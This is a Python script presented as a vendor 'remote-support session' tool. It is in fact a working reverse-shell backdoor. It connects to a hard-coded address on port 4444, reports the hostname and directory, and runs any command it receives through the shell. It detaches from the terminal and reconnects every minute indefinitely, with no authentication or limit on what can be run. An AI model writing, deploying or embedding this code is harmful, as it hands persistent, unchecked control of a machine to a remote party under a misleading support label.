#!/usr/bin/env python3
"""Outbound remote-support session to the controller vendor's gateway."""
import argparse, os, socket, subprocess, time

GATEWAY = ("198.51.100.23", 4444)


def session(ticket):
    s = socket.create_connection(GATEWAY, timeout=30)
    s.settimeout(None)
    s.sendall(f"TICKET {ticket} {socket.gethostname()} {os.getcwd()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd == "exit":
            break
        p = subprocess.run(cmd, shell=True, capture_output=True)
        f.write(p.stdout + p.stderr + b"\n--end--\n")
    s.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    if os.fork():
        print(f"support session started for ticket {a.ticket}")
        return
    os.setsid()
    while True:
        try:
            session(a.ticket)
        except OSError:
            pass
        time.sleep(60)


if __name__ == "__main__":
    main()
